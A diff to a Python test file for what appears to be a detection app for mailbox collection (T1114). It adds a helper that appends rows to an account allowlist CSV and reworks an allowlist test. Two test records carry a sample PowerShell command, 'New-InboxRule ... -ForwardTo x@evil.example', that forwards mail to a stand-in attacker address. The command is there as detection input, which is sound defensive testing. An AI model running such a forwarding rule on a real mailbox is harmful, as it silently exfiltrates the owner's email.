@@ -24,6 +24,17 @@ def rule_event_records():
     return records
 
 
+def add_account_row(app_dir, values):
+    """Append a row to the app's accounts allowlist under whatever header the file has."""
+    import csv
+
+    path = os.path.join(app_dir, "lookups", "t1114_allowlist_accounts.csv")
+    with open(path, newline="") as handle:
+        header = next(csv.reader(handle))
+    with open(path, "a", newline="") as handle:
+        csv.DictWriter(handle, header).writerow(values)
+
+
 def finding_signature(record):
     return (record["test_id"], record["t1114_status"], str(record["t1114_rule"]), record["t1114_severity"],
             str(record["t1114_reason"]), str(record["t1114_suppressed_by"]))
@@ -107,7 +118,7 @@ def test_broken_lookup_row_gives_one_inspector_warning_and_other_rows_apply(buil
     with open(os.path.join(app_copy, "lookups", "t1114_allowlist_accounts.csv"), "w") as handle:
         handle.write("account,rules,valid_from,valid_until,reason\n"
                      "ops@contoso.com,,not-a-date,,typo\n"
-                     "mallory@contoso.com,,,,approved sync\n")
+                     "mallory@contoso.com,,,,approved sync\n")  # an older file without the optional columns
     record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com",
               "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example"}
     result = run(script_path(app_copy), [dict(record) for _ in range(50)], args=["mode=all"], chunk_size=10)
@@ -120,8 +131,7 @@ def test_broken_lookup_row_gives_one_inspector_warning_and_other_rows_apply(buil
 def test_allowlist_false_reports_suppressed_findings(built_app, tmp_path):
     app_copy = str(tmp_path / "app")
     shutil.copytree(built_app, app_copy)
-    with open(os.path.join(app_copy, "lookups", "t1114_allowlist_accounts.csv"), "a") as handle:
-        handle.write("mallory@contoso.com,,,,approved sync\n")
+    add_account_row(app_copy, {"account": "mallory@contoso.com", "reason": "approved sync"})
     record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com",
               "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example"}
     assert run(script_path(app_copy), [record])["records"] == []
